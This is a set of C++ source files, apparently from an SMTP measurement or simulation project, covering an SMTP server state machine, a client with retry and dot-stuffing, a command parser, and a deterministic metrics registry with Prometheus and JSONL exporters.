  // the session is dead, any further respond() is a bad sequence. Used by
  // the fault-injection layer for mid-dialog connection drops.
  void force_close() noexcept { closed_ = true; }

  // True while the session is collecting message content.
  bool in_data() const noexcept { return state_ == State::InData; }

 private:
  enum class State { WaitHello, Idle, GotMail, GotRcpt, InData };

  SessionHandler& handler_;
  util::IpAddress client_;
  State state_ = State::WaitHello;
  Envelope envelope_;
  std::string data_buffer_;
  bool closed_ = false;
};

// A reply with code 0 means "no reply yet" (mid-DATA accumulation).
constexpr int kNoReplyCode = 0;

}  // namespace spfail::smtp
