#include "smtp/client.hpp"

#include "util/rng.hpp"
#include "util/strings.hpp"

namespace spfail::smtp {

std::string DeliveryResult::transcript_text() const {
  std::string out;
  for (const auto& line : transcript) {
    out += line.direction == TranscriptLine::Direction::ClientToServer ? "C: "
                                                                       : "S: ";
    out += line.text;
    out.push_back('\n');
  }
  return out;
}

DeliveryResult Client::deliver(ServerSession& session,
                               const std::string& mail_from,
                               const std::vector<std::string>& recipients,
                               const mail::Message& message) {
  DeliveryResult result;

  const auto say = [&](const std::string& line) -> Reply {
    result.transcript.push_back(
        {TranscriptLine::Direction::ClientToServer, line});
    const Reply reply = session.respond(line);
    if (reply.code != kNoReplyCode) {
      result.transcript.push_back(
          {TranscriptLine::Direction::ServerToClient, reply.line()});
    }
    return reply;
  };
  const auto fail_with = [&](const Reply& reply) {
    result.accepted = false;
    result.final_code = reply.code;
    result.final_text = reply.text;
    return result;
  };

  const Reply banner = session.greeting();
  result.transcript.push_back(
      {TranscriptLine::Direction::ServerToClient, banner.line()});
  if (!banner.positive()) return fail_with(banner);

  const Reply hello = say("EHLO " + helo_identity_);
  if (!hello.positive()) return fail_with(hello);

  const Reply mail = say("MAIL FROM:<" + mail_from + ">");
  if (!mail.positive()) return fail_with(mail);

  bool any_recipient = false;
  Reply last_rcpt = replies::ok();
  for (const auto& recipient : recipients) {
    last_rcpt = say("RCPT TO:<" + recipient + ">");
    any_recipient |= last_rcpt.positive();
    if (last_rcpt.code == 421 || session.closed()) return fail_with(last_rcpt);
  }
  if (!any_recipient) return fail_with(last_rcpt);

  const Reply data = say("DATA");
  if (!data.intermediate()) return fail_with(data);

  // Transmit the message with dot-stuffing, line by line.
  for (const auto& raw_line : util::split(message.to_string(), '\n')) {
    std::string line = raw_line;
    if (!line.empty() && line.back() == '\r') line.pop_back();
    if (!line.empty() && line.front() == '.') line.insert(line.begin(), '.');
    say(line);
  }
  const Reply accepted = say(".");
  say("QUIT");

  result.accepted = accepted.positive();
  result.final_code = accepted.code;
  result.final_text = accepted.text;
  return result;
}

DeliveryResult Client::deliver_with_retry(
    const SessionFactory& connect, const std::string& mail_from,
    const std::vector<std::string>& recipients, const mail::Message& message,
    const faults::RetryPolicy& policy, util::SimClock& clock) {
  const std::uint64_t key = util::fnv1a(mail_from);
  DeliveryResult result;
  int attempts = 0;
  for (;;) {
    std::optional<ServerSession> session = connect();
    if (session.has_value()) {
      result = deliver(*session, mail_from, recipients, message);
    } else {
      result = DeliveryResult{};
      result.final_text = "connection refused";
    }
    ++attempts;
    if (result.accepted || !result.transient()) break;
    if (!policy.allow_retry(attempts, /*budget_left=*/1)) break;
    clock.advance_by(policy.backoff(key, /*round=*/0, attempts - 1));
  }
  result.attempts = attempts;
  return result;
}

}  // namespace spfail::smtp
