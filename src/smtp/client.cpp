#include "smtp/client.hpp"

#include "util/rng.hpp"
#include "util/strings.hpp"

namespace spfail::smtp {

std::string DeliveryResult::transcript_text() const {
  std::string out;
  for (const auto& frame : transcript) {
    out += frame.direction == net::Direction::ClientToServer ? "C: " : "S: ";
    out += frame.text;
    out.push_back('\n');
  }
  return out;
}

DeliveryResult Client::run_dialog(net::SmtpChannel& channel,
                                  const std::string& mail_from,
                                  const std::vector<std::string>& recipients,
                                  const mail::Message& message) {
  DeliveryResult result;
  const auto fail_with = [&](const Reply& reply) {
    result.accepted = false;
    result.final_code = reply.code;
    result.final_text = reply.text;
    return result;
  };

  const Reply banner = channel.greeting();
  if (!banner.positive()) return fail_with(banner);

  const Reply hello = channel.send("EHLO " + helo_identity_);
  if (!hello.positive()) return fail_with(hello);

  const Reply mail = channel.send("MAIL FROM:<" + mail_from + ">");
  if (!mail.positive()) return fail_with(mail);

  bool any_recipient = false;
  Reply last_rcpt = replies::ok();
  for (const auto& recipient : recipients) {
    last_rcpt = channel.send("RCPT TO:<" + recipient + ">");
    any_recipient |= last_rcpt.positive();
    if (last_rcpt.code == 421 || channel.closed()) return fail_with(last_rcpt);
  }
  if (!any_recipient) return fail_with(last_rcpt);

  const Reply data = channel.send("DATA");
  if (!data.intermediate()) return fail_with(data);

  // Transmit the message with dot-stuffing, line by line.
  for (const auto& raw_line : util::split(message.to_string(), '\n')) {
    std::string line = raw_line;
    if (!line.empty() && line.back() == '\r') line.pop_back();
    if (!line.empty() && line.front() == '.') line.insert(line.begin(), '.');
    channel.send(line);
  }
  const Reply accepted = channel.send(".");
  channel.send("QUIT");

  result.accepted = accepted.positive();
  result.final_code = accepted.code;
  result.final_text = accepted.text;
  return result;
}

DeliveryResult Client::deliver(net::SmtpChannel& channel,
                               const std::string& mail_from,
                               const std::vector<std::string>& recipients,
                               const mail::Message& message) {
  net::WireTrace transcript;
  channel.set_mirror(&transcript);
  DeliveryResult result = run_dialog(channel, mail_from, recipients, message);
  channel.set_mirror(nullptr);
  result.transcript = transcript.release();
  return result;
}

DeliveryResult Client::deliver(ServerSession& session,
                               const std::string& mail_from,
                               const std::vector<std::string>& recipients,
                               const mail::Message& message) {
  net::Transport transport;  // clockless: the dialog advances no time
  net::SmtpChannel channel =
      transport.open(session, net::Endpoint::named(helo_identity_),
                     net::Endpoint::named("server"));
  return deliver(channel, mail_from, recipients, message);
}

DeliveryResult Client::deliver_with_retry(
    const SessionFactory& connect, const std::string& mail_from,
    const std::vector<std::string>& recipients, const mail::Message& message,
    const faults::RetryPolicy& policy, util::SimClock& clock) {
  const std::uint64_t key = util::fnv1a(mail_from);
  DeliveryResult result;
  int attempts = 0;
  for (;;) {
    std::optional<ServerSession> session = connect();
    if (session.has_value()) {
      result = deliver(*session, mail_from, recipients, message);
    } else {
      result = DeliveryResult{};
      result.final_text = "connection refused";
    }
    ++attempts;
    if (result.accepted || !result.transient()) break;
    if (!policy.allow_retry(attempts, /*budget_left=*/1)) break;
    clock.advance_by(policy.backoff(key, /*round=*/0, attempts - 1));
  }
  result.attempts = attempts;
  return result;
}

}  // namespace spfail::smtp
