#include "smtp/command.hpp"

#include "util/strings.hpp"

namespace spfail::smtp {

namespace {

// Extract the address between '<' and '>', tolerating the common sloppy form
// without brackets ("MAIL FROM: user@example.com").
std::string extract_path(std::string_view rest) {
  const std::size_t lt = rest.find('<');
  const std::size_t gt = rest.rfind('>');
  if (lt != std::string_view::npos && gt != std::string_view::npos && gt > lt) {
    return std::string(rest.substr(lt + 1, gt - lt - 1));
  }
  return std::string(util::trim(rest));
}

}  // namespace

Command parse_command(std::string_view line) {
  Command cmd;
  const std::string_view trimmed = util::trim(line);

  const auto starts_with_i = [&](std::string_view prefix) {
    return trimmed.size() >= prefix.size() &&
           util::iequals(trimmed.substr(0, prefix.size()), prefix);
  };

  if (starts_with_i("MAIL FROM:")) {
    cmd.verb = Verb::MailFrom;
    cmd.argument = extract_path(trimmed.substr(10));
    return cmd;
  }
  if (starts_with_i("RCPT TO:")) {
    cmd.verb = Verb::RcptTo;
    cmd.argument = extract_path(trimmed.substr(8));
    return cmd;
  }
  if (starts_with_i("EHLO")) {
    cmd.verb = Verb::Ehlo;
    cmd.argument = std::string(util::trim(trimmed.substr(4)));
    return cmd;
  }
  if (starts_with_i("HELO")) {
    cmd.verb = Verb::Helo;
    cmd.argument = std::string(util::trim(trimmed.substr(4)));
    return cmd;
  }
  if (starts_with_i("DATA") && trimmed.size() == 4) {
    cmd.verb = Verb::Data;
    return cmd;
  }
  if (starts_with_i("RSET") && trimmed.size() == 4) {
    cmd.verb = Verb::Rset;
    return cmd;
  }
  if (starts_with_i("NOOP")) {
    cmd.verb = Verb::Noop;
    return cmd;
  }
  if (starts_with_i("QUIT") && trimmed.size() == 4) {
    cmd.verb = Verb::Quit;
    return cmd;
  }
  return cmd;  // Unknown
}

std::optional<MailboxParts> split_mailbox(std::string_view address) {
  const std::size_t at = address.rfind('@');
  if (at == std::string_view::npos || at == 0 || at + 1 >= address.size()) {
    return std::nullopt;
  }
  return MailboxParts{std::string(address.substr(0, at)),
                      util::to_lower(address.substr(at + 1))};
}

}  // namespace spfail::smtp
