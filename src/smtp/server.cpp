#include "smtp/server.hpp"

namespace spfail::smtp {

Reply ServerSession::respond(const std::string& line) {
  if (closed_) return replies::bad_sequence();

  if (state_ == State::InData) {
    if (line == ".") {
      envelope_.data = std::move(data_buffer_);
      data_buffer_.clear();
      state_ = State::Idle;
      const Reply reply = handler_.on_message(envelope_, client_);
      envelope_ = Envelope{};
      if (reply.code == 421) closed_ = true;
      return reply;
    }
    // Dot-stuffing: a leading ".." unstuffs to ".".
    if (line.size() >= 2 && line[0] == '.' && line[1] == '.') {
      data_buffer_.append(line.substr(1));
    } else {
      data_buffer_.append(line);
    }
    data_buffer_.push_back('\n');
    return Reply{kNoReplyCode, ""};
  }

  const Command cmd = parse_command(line);
  switch (cmd.verb) {
    case Verb::Helo:
    case Verb::Ehlo: {
      const Reply reply = handler_.on_hello(cmd.argument, client_);
      if (reply.positive()) {
        state_ = State::Idle;
        envelope_ = Envelope{};
      } else if (reply.code == 421) {
        closed_ = true;
      }
      return reply;
    }

    case Verb::MailFrom: {
      if (state_ == State::WaitHello) return replies::bad_sequence();
      if (state_ != State::Idle) return replies::bad_sequence();
      std::string local, domain;
      if (!cmd.argument.empty()) {  // "<>" arrives as empty argument
        const auto parts = split_mailbox(cmd.argument);
        if (!parts.has_value()) return replies::parameter_error();
        local = parts->local;
        domain = parts->domain;
      }
      const Reply reply = handler_.on_mail_from(local, domain, client_);
      if (reply.positive()) {
        envelope_.sender_local = local;
        envelope_.sender_domain = domain;
        state_ = State::GotMail;
      } else if (reply.code == 421) {
        closed_ = true;
      }
      return reply;
    }

    case Verb::RcptTo: {
      if (state_ != State::GotMail && state_ != State::GotRcpt) {
        return replies::bad_sequence();
      }
      const Reply reply = handler_.on_rcpt_to(cmd.argument, client_);
      if (reply.positive()) {
        envelope_.recipients.push_back(cmd.argument);
        state_ = State::GotRcpt;
      } else if (reply.code == 421) {
        closed_ = true;
      }
      return reply;
    }

    case Verb::Data: {
      if (state_ != State::GotRcpt) return replies::bad_sequence();
      state_ = State::InData;
      return replies::start_mail_input();
    }

    case Verb::Rset:
      if (state_ != State::WaitHello) state_ = State::Idle;
      envelope_ = Envelope{};
      return replies::ok();

    case Verb::Noop:
      return replies::ok();

    case Verb::Quit:
      closed_ = true;
      return replies::closing();

    case Verb::Unknown:
      return replies::syntax_error();
  }
  return replies::syntax_error();
}

}  // namespace spfail::smtp
