#include "obs/lane.hpp"

#include <atomic>

namespace spfail::obs {

namespace {

thread_local Registry* t_registry = nullptr;
std::atomic<bool> g_wall_profile{false};

}  // namespace

MetricsLane::MetricsLane(Registry& registry) : previous_(t_registry) {
  t_registry = &registry;
}

MetricsLane::~MetricsLane() { t_registry = previous_; }

Registry* MetricsLane::current() noexcept { return t_registry; }

WallProfileScope::WallProfileScope()
    : previous_(g_wall_profile.exchange(true, std::memory_order_relaxed)) {}

WallProfileScope::~WallProfileScope() {
  g_wall_profile.store(previous_, std::memory_order_relaxed);
}

bool WallProfileScope::enabled() noexcept {
  return g_wall_profile.load(std::memory_order_relaxed);
}

void count(std::string_view name, std::initializer_list<Label> labels,
           std::uint64_t delta) {
  if (t_registry == nullptr) return;
  t_registry->counter_cell(name, render_labels(labels)) += delta;
}

void observe(std::string_view name, std::int64_t value,
             std::initializer_list<Label> labels) {
  if (t_registry == nullptr) return;
  t_registry->histogram_cell(name, render_labels(labels)).observe(value);
}

void gauge_set(std::string_view name, std::int64_t value,
               std::initializer_list<Label> labels) {
  if (t_registry == nullptr) return;
  t_registry->gauge_cell(name, render_labels(labels)) = value;
}

ScopedTimer::ScopedTimer(std::string_view name,
                         std::function<util::SimTime()> now,
                         std::initializer_list<Label> labels)
    : registry_(t_registry) {
  if (registry_ == nullptr) return;
  name_ = name;
  labels_ = render_labels(labels);
  now_ = std::move(now);
  start_ = now_();
  wall_ = WallProfileScope::enabled();
  if (wall_) wall_start_ = std::chrono::steady_clock::now();
}

ScopedTimer::~ScopedTimer() {
  if (registry_ == nullptr) return;
  registry_->histogram_cell(name_, labels_).observe(now_() - start_);
  if (wall_) {
    const auto elapsed = std::chrono::duration_cast<std::chrono::nanoseconds>(
        std::chrono::steady_clock::now() - wall_start_);
    registry_
        ->histogram_cell(name_ + "_wall_ns", labels_, /*wall=*/true)
        .observe(elapsed.count());
  }
}

}  // namespace spfail::obs
