#include "obs/metrics.hpp"

#include <bit>
#include <stdexcept>

#include "snapshot/enums.hpp"

namespace spfail::obs {

std::string to_string(MetricKind kind) {
  switch (kind) {
    case MetricKind::Counter:
      return "counter";
    case MetricKind::Gauge:
      return "gauge";
    case MetricKind::Histogram:
      return "histogram";
  }
  return "unknown";
}

std::int64_t Histogram::bucket_bound(int index) {
  if (index <= 0) return 0;
  if (index >= kBucketCount - 1) {
    throw std::out_of_range("obs: +Inf bucket has no finite bound");
  }
  return std::int64_t{1} << (index - 1);
}

int Histogram::bucket_of(std::int64_t value) {
  if (value <= 0) return 0;
  // Smallest i with value <= 2^(i-1), i.e. bit_width of value-1 plus one;
  // value == 1 lands in bucket 1, a boundary-exact 2^k in bucket k+1.
  const int width =
      std::bit_width(static_cast<std::uint64_t>(value) - 1) + 1;
  return width > kBucketCount - 2 ? kBucketCount - 1 : width;
}

void Histogram::observe(std::int64_t value) {
  ++buckets_[static_cast<std::size_t>(bucket_of(value))];
  ++count_;
  sum_ += value;
  if (value > max_) max_ = value;
}

std::int64_t Histogram::quantile(double q) const {
  if (count_ == 0) return 0;
  if (q < 0.0) q = 0.0;
  if (q > 1.0) q = 1.0;
  // Rank computed in integers off a fixed-point q to stay FP-rounding-proof:
  // the smallest rank r with r >= q * count, at least 1.
  const auto target =
      (count_ * static_cast<std::uint64_t>(q * 1000000.0) + 999999) / 1000000;
  const auto rank = target == 0 ? 1 : target;
  std::uint64_t seen = 0;
  for (int i = 0; i < kBucketCount; ++i) {
    seen += buckets_[static_cast<std::size_t>(i)];
    if (seen >= rank) {
      return i == kBucketCount - 1 ? max_ : bucket_bound(i);
    }
  }
  return max_;
}

void Histogram::merge(const Histogram& other) {
  for (int i = 0; i < kBucketCount; ++i) {
    buckets_[static_cast<std::size_t>(i)] +=
        other.buckets_[static_cast<std::size_t>(i)];
  }
  count_ += other.count_;
  sum_ += other.sum_;
  if (other.max_ > max_) max_ = other.max_;
}

void Histogram::encode(snapshot::Writer& w) const {
  w.u64(count_);
  w.i64(sum_);
  w.i64(max_);
  std::uint64_t nonzero = 0;
  for (auto b : buckets_) {
    if (b != 0) ++nonzero;
  }
  w.u64(nonzero);
  for (int i = 0; i < kBucketCount; ++i) {
    const auto b = buckets_[static_cast<std::size_t>(i)];
    if (b == 0) continue;
    w.u16(static_cast<std::uint16_t>(i));
    w.u64(b);
  }
}

Histogram Histogram::decode(snapshot::Reader& r) {
  Histogram h;
  h.count_ = r.u64();
  h.sum_ = r.i64();
  h.max_ = r.i64();
  const auto nonzero = r.u64();
  for (std::uint64_t n = 0; n < nonzero; ++n) {
    const auto index = r.u16();
    if (index >= kBucketCount) {
      throw snapshot::SnapshotError("obs: histogram bucket index " +
                                    std::to_string(index) + " out of range");
    }
    h.buckets_[index] = r.u64();
  }
  return h;
}

std::string render_labels(std::initializer_list<Label> labels) {
  std::string out;
  for (const auto& [key, value] : labels) {
    if (!out.empty()) out += ',';
    out += key;
    out += "=\"";
    out += value;
    out += '"';
  }
  return out;
}

Metric& Registry::cell(std::string_view name, std::string labels,
                       MetricKind kind, bool wall) {
  auto [it, inserted] = families_.try_emplace(std::string(name));
  Family& family = it->second;
  if (inserted) {
    family.kind = kind;
    family.wall = wall;
  } else if (family.kind != kind) {
    throw std::logic_error("obs: metric '" + std::string(name) +
                           "' already registered as " +
                           to_string(family.kind) + ", requested as " +
                           to_string(kind));
  }
  return family.cells[std::move(labels)];
}

std::uint64_t& Registry::counter(std::string_view name,
                                 std::initializer_list<Label> labels) {
  return cell(name, render_labels(labels), MetricKind::Counter, false).counter;
}

std::int64_t& Registry::gauge(std::string_view name,
                              std::initializer_list<Label> labels) {
  return cell(name, render_labels(labels), MetricKind::Gauge, false).gauge;
}

Histogram& Registry::histogram(std::string_view name,
                               std::initializer_list<Label> labels) {
  return cell(name, render_labels(labels), MetricKind::Histogram, false)
      .histogram;
}

std::uint64_t& Registry::counter_cell(std::string_view name,
                                      std::string labels, bool wall) {
  return cell(name, std::move(labels), MetricKind::Counter, wall).counter;
}

std::int64_t& Registry::gauge_cell(std::string_view name, std::string labels,
                                   bool wall) {
  return cell(name, std::move(labels), MetricKind::Gauge, wall).gauge;
}

Histogram& Registry::histogram_cell(std::string_view name, std::string labels,
                                    bool wall) {
  return cell(name, std::move(labels), MetricKind::Histogram, wall).histogram;
}

const Family* Registry::find(std::string_view name) const {
  auto it = families_.find(std::string(name));
  return it == families_.end() ? nullptr : &it->second;
}

void Registry::merge(const Registry& other) {
  for (const auto& [name, theirs] : other.families_) {
    auto [it, inserted] = families_.try_emplace(name);
    Family& ours = it->second;
    if (inserted) {
      ours.kind = theirs.kind;
      ours.wall = theirs.wall;
    } else if (ours.kind != theirs.kind) {
      throw std::logic_error("obs: merge kind mismatch for metric '" + name +
                             "'");
    }
    for (const auto& [labels, metric] : theirs.cells) {
      Metric& target = ours.cells[labels];
      switch (ours.kind) {
        case MetricKind::Counter:
          target.counter += metric.counter;
          break;
        case MetricKind::Gauge:
          target.gauge = metric.gauge;
          break;
        case MetricKind::Histogram:
          target.histogram.merge(metric.histogram);
          break;
      }
    }
  }
}

void Registry::encode(snapshot::Writer& w) const {
  w.u64(families_.size());
  for (const auto& [name, family] : families_) {
    w.str(name);
    w.u8(snapshot::encode_enum(family.kind));
    w.boolean(family.wall);
    w.u64(family.cells.size());
    for (const auto& [labels, metric] : family.cells) {
      w.str(labels);
      switch (family.kind) {
        case MetricKind::Counter:
          w.u64(metric.counter);
          break;
        case MetricKind::Gauge:
          w.i64(metric.gauge);
          break;
        case MetricKind::Histogram:
          metric.histogram.encode(w);
          break;
      }
    }
  }
}

Registry Registry::decode(snapshot::Reader& r) {
  Registry registry;
  const auto family_count = r.u64();
  for (std::uint64_t f = 0; f < family_count; ++f) {
    std::string name = r.str();
    Family family;
    family.kind = snapshot::decode_metric_kind(r.u8());
    family.wall = r.boolean();
    const auto cell_count = r.u64();
    for (std::uint64_t c = 0; c < cell_count; ++c) {
      std::string labels = r.str();
      Metric metric;
      switch (family.kind) {
        case MetricKind::Counter:
          metric.counter = r.u64();
          break;
        case MetricKind::Gauge:
          metric.gauge = r.i64();
          break;
        case MetricKind::Histogram:
          metric.histogram = Histogram::decode(r);
          break;
      }
      family.cells.emplace(std::move(labels), std::move(metric));
    }
    registry.families_.emplace(std::move(name), std::move(family));
  }
  return registry;
}

}  // namespace spfail::obs
