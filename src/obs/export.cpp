#include "obs/export.hpp"

#include <ostream>
#include <sstream>

namespace spfail::obs {

namespace {

std::string json_escape(std::string_view raw) {
  std::string out;
  out.reserve(raw.size());
  for (char c : raw) {
    switch (c) {
      case '"':
        out += "\\\"";
        break;
      case '\\':
        out += "\\\\";
        break;
      case '\n':
        out += "\\n";
        break;
      default:
        out += c;
    }
  }
  return out;
}

// "name{labels}" or bare "name" — the exposition-style cell key reused as
// the JSON object key so the two exports cross-reference trivially.
std::string cell_key(const std::string& name, const std::string& labels) {
  if (labels.empty()) return name;
  return name + '{' + labels + '}';
}

// Splice an `le` label into an existing (possibly empty) label string.
std::string with_le(const std::string& labels, const std::string& bound) {
  std::string out = labels;
  if (!out.empty()) out += ',';
  out += "le=\"" + bound + '"';
  return out;
}

}  // namespace

void write_prometheus(const Registry& registry, std::ostream& out,
                      bool include_wall) {
  for (const auto& [name, family] : registry.families()) {
    if (family.wall && !include_wall) continue;
    out << "# TYPE " << name << ' ' << to_string(family.kind) << '\n';
    for (const auto& [labels, metric] : family.cells) {
      switch (family.kind) {
        case MetricKind::Counter:
          out << cell_key(name, labels) << ' ' << metric.counter << '\n';
          break;
        case MetricKind::Gauge:
          out << cell_key(name, labels) << ' ' << metric.gauge << '\n';
          break;
        case MetricKind::Histogram: {
          const Histogram& h = metric.histogram;
          std::uint64_t cumulative = 0;
          for (int i = 0; i < Histogram::kBucketCount - 1; ++i) {
            const auto in_bucket = h.buckets()[static_cast<std::size_t>(i)];
            if (in_bucket == 0) continue;
            cumulative += in_bucket;
            out << name << "_bucket{"
                << with_le(labels, std::to_string(Histogram::bucket_bound(i)))
                << "} " << cumulative << '\n';
          }
          out << name << "_bucket{" << with_le(labels, "+Inf") << "} "
              << h.count() << '\n';
          out << cell_key(name + "_sum", labels) << ' ' << h.sum() << '\n';
          out << cell_key(name + "_count", labels) << ' ' << h.count()
              << '\n';
          break;
        }
      }
    }
  }
}

std::string round_snapshot_json(const Registry& registry,
                                std::string_view phase, int round,
                                bool include_wall) {
  std::ostringstream out;
  out << "{\"phase\":\"" << json_escape(phase) << '"';
  if (round >= 0) out << ",\"round\":" << round;
  for (const MetricKind kind :
       {MetricKind::Counter, MetricKind::Gauge, MetricKind::Histogram}) {
    const char* section = kind == MetricKind::Counter  ? "counters"
                          : kind == MetricKind::Gauge ? "gauges"
                                                      : "histograms";
    out << ",\"" << section << "\":{";
    bool first = true;
    for (const auto& [name, family] : registry.families()) {
      if (family.kind != kind) continue;
      if (family.wall && !include_wall) continue;
      for (const auto& [labels, metric] : family.cells) {
        if (!first) out << ',';
        first = false;
        out << '"' << json_escape(cell_key(name, labels)) << "\":";
        switch (kind) {
          case MetricKind::Counter:
            out << metric.counter;
            break;
          case MetricKind::Gauge:
            out << metric.gauge;
            break;
          case MetricKind::Histogram: {
            const Histogram& h = metric.histogram;
            out << "{\"count\":" << h.count() << ",\"sum\":" << h.sum()
                << ",\"max\":" << h.max() << ",\"p50\":" << h.quantile(0.5)
                << ",\"p95\":" << h.quantile(0.95) << '}';
            break;
          }
        }
      }
    }
    out << '}';
  }
  out << '}';
  return out.str();
}

}  // namespace spfail::obs
