// Deterministic renderings of a Registry (DESIGN.md §12).
//
// Two formats, both byte-stable for a given registry because families and
// cells iterate in map order and all numbers are integers:
//   - Prometheus text exposition, for the final post-run scrape file;
//   - a one-line JSON object per round, appended to a JSONL stream, so a
//     longitudinal run leaves a per-round time series of every metric.
// Wall-clock families are skipped unless `include_wall` — they are the one
// intentionally non-deterministic lane and must not reach golden outputs.
#pragma once

#include <iosfwd>
#include <string>

#include "obs/metrics.hpp"

namespace spfail::obs {

// Full text exposition: "# TYPE" headers, histogram cells expanded into
// cumulative _bucket{le="..."} series (zero-delta buckets elided, +Inf
// always present) plus _sum and _count.
void write_prometheus(const Registry& registry, std::ostream& out,
                      bool include_wall = false);

// One JSONL line (no trailing newline): {"phase":...,"round":...,
// "counters":{...},"gauges":{...},"histograms":{name:{count,sum,max,p50,
// p95}}}. `round` is emitted only when >= 0.
std::string round_snapshot_json(const Registry& registry,
                                std::string_view phase, int round = -1,
                                bool include_wall = false);

}  // namespace spfail::obs
