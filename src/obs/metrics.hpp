// Deterministic metrics for the scan apparatus (DESIGN.md §12).
//
// A Registry owns Counter, Gauge, and Histogram metric families keyed by
// (name, rendered label set). Everything about it is chosen for determinism
// rather than speed: families and their labelled cells live in ordered maps,
// histogram bucket boundaries are fixed powers of two (so the distribution a
// run reports is platform- and thread-count-invariant), timers read the
// *simulated* clock, and per-shard registries merge by summation in
// shard-index order — the same lane discipline as util::SimClock and
// net::WireTrace. Two runs of the same seeded scan therefore emit
// bit-identical JSONL/Prometheus output at any thread count, which is what
// lets metric files participate in the golden-output test surface instead of
// being exempted from it.
//
// Wall-clock profiling is a separate, opt-in lane: families registered as
// wall-clock carry real nanoseconds and are excluded from the deterministic
// exports unless explicitly requested.
#pragma once

#include <array>
#include <cstdint>
#include <initializer_list>
#include <map>
#include <string>
#include <string_view>
#include <utility>

#include "snapshot/codec.hpp"

namespace spfail::obs {

// One label as the call site writes it: {"stage", "helo"}.
using Label = std::pair<std::string_view, std::string_view>;

// What a metric family measures. The numeric values are the frozen snapshot
// wire codes (snapshot/enums.cpp maps them; do not renumber).
enum class MetricKind : std::uint8_t {
  Counter = 1,    // monotone u64, merged by summation
  Gauge = 2,      // last-set i64, serial sections only
  Histogram = 3,  // log2-bucketed distribution, merged bucket-wise
};

std::string to_string(MetricKind kind);

// Fixed-boundary histogram over non-negative integer values (simulated
// seconds, counts). Bucket upper bounds are 0, 1, 2, 4, ..., 2^62, +Inf —
// never derived from the data — so two histograms over the same values are
// structurally identical and merging is bucket-wise addition.
class Histogram {
 public:
  // Bucket 0 holds v <= 0; bucket i (1..63) holds v <= 2^(i-1); bucket 64 is
  // the +Inf overflow.
  static constexpr int kBucketCount = 65;

  // The upper bound of bucket `index` (kBucketCount - 1 is +Inf, rendered by
  // the exporters; it has no finite bound).
  static std::int64_t bucket_bound(int index);
  // The bucket `value` lands in.
  static int bucket_of(std::int64_t value);

  void observe(std::int64_t value);

  std::uint64_t count() const noexcept { return count_; }
  std::int64_t sum() const noexcept { return sum_; }
  std::int64_t max() const noexcept { return max_; }
  const std::array<std::uint64_t, kBucketCount>& buckets() const noexcept {
    return buckets_;
  }

  // Deterministic quantile: the upper bound of the first bucket whose
  // cumulative count reaches q of the total (the exact observed max for the
  // overflow bucket, which has no finite bound). 0 when empty.
  std::int64_t quantile(double q) const;

  void merge(const Histogram& other);

  // Wire form: count, sum, max, then the non-zero buckets as a sparse
  // (index, count) list — merged histograms keep exact sum/max this way,
  // which replaying observes could not reconstruct.
  void encode(snapshot::Writer& w) const;
  static Histogram decode(snapshot::Reader& r);

  friend bool operator==(const Histogram&, const Histogram&) = default;

 private:
  std::array<std::uint64_t, kBucketCount> buckets_{};
  std::uint64_t count_ = 0;
  std::int64_t sum_ = 0;
  std::int64_t max_ = 0;
};

// One labelled cell of a family. Exactly one of the value members is live,
// per the owning family's kind; keeping them side by side beats a variant
// for codec simplicity.
struct Metric {
  std::uint64_t counter = 0;
  std::int64_t gauge = 0;
  Histogram histogram;

  friend bool operator==(const Metric&, const Metric&) = default;
};

// All cells of one metric name. `wall` families carry wall-clock
// nanoseconds: real profiling data that must never reach a golden output, so
// the exporters skip them unless asked.
struct Family {
  MetricKind kind = MetricKind::Counter;
  bool wall = false;
  // Rendered label string ("stage=\"helo\"", "" for no labels) -> cell.
  std::map<std::string, Metric> cells;

  friend bool operator==(const Family&, const Family&) = default;
};

// Render labels canonically: comma-joined k="v" in call-site order. Call
// sites pass labels in one fixed order, so no sorting is applied (and label
// order is part of a metric's identity, as in Prometheus exposition).
std::string render_labels(std::initializer_list<Label> labels);

class Registry {
 public:
  // Cell accessors: create-on-first-use, verify the kind on every use (a
  // name registered as a counter cannot silently become a histogram).
  // Throws std::logic_error on a kind conflict.
  std::uint64_t& counter(std::string_view name,
                         std::initializer_list<Label> labels = {});
  std::int64_t& gauge(std::string_view name,
                      std::initializer_list<Label> labels = {});
  Histogram& histogram(std::string_view name,
                       std::initializer_list<Label> labels = {});

  // Pre-rendered-label variants (the hooks in lane.hpp render once).
  std::uint64_t& counter_cell(std::string_view name, std::string labels,
                              bool wall = false);
  std::int64_t& gauge_cell(std::string_view name, std::string labels,
                           bool wall = false);
  Histogram& histogram_cell(std::string_view name, std::string labels,
                            bool wall = false);

  const std::map<std::string, Family>& families() const noexcept {
    return families_;
  }
  const Family* find(std::string_view name) const;
  bool empty() const noexcept { return families_.empty(); }
  void clear() { families_.clear(); }

  // Fold `other` in: counters and histograms sum, gauges take the incoming
  // value (so call in shard-index order; shard lanes should not set gauges).
  // Kind mismatches throw. Counter/histogram merging is commutative, which
  // the determinism tests rely on.
  void merge(const Registry& other);

  // Frozen little-endian wire form for the checkpoint payload
  // (DESIGN.md §12): family count, then per family name, kind byte
  // (snapshot/enums), wall flag, cell count, and per cell the label string
  // plus the kind's value (histograms as sparse non-zero buckets).
  void encode(snapshot::Writer& w) const;
  static Registry decode(snapshot::Reader& r);

  friend bool operator==(const Registry&, const Registry&) = default;

 private:
  Metric& cell(std::string_view name, std::string labels, MetricKind kind,
               bool wall);

  std::map<std::string, Family> families_;
};

}  // namespace spfail::obs
