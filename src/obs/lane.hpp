// Thread-local metric lanes and the instrumentation hooks that feed them.
//
// Low-level components (Transport, Prober, resolvers, RetryPolicy) must not
// carry a Registry pointer through every constructor, so instrumentation
// goes through free hooks — obs::count / obs::observe / obs::gauge_set —
// that write to whatever Registry the calling thread has installed via a
// MetricsLane, and no-op (a branch on a thread_local pointer) when none is
// active. This mirrors net::WireTrace::Lane, with one deliberate
// difference: lanes nest. An inner scope may redirect to a scratch registry
// (TraceStats does this to tally frames) and the outer lane is restored on
// destruction, so orchestrator and component instrumentation compose.
//
// Concurrency contract, same as SimClock/WireTrace lanes: each worker
// thread installs a lane over its own shard-local Registry, and the
// orchestrator merges shard registries in shard-index order after the
// barrier. Counters and histograms merge commutatively, so any thread count
// yields the same master registry; gauges are serial-section-only.
#pragma once

#include <chrono>
#include <cstdint>
#include <functional>
#include <initializer_list>

#include "obs/metrics.hpp"
#include "util/clock.hpp"

namespace spfail::obs {

// RAII: route this thread's metric hooks into `registry` until destruction,
// then restore whatever lane (or none) was active before.
class MetricsLane {
 public:
  explicit MetricsLane(Registry& registry);
  ~MetricsLane();

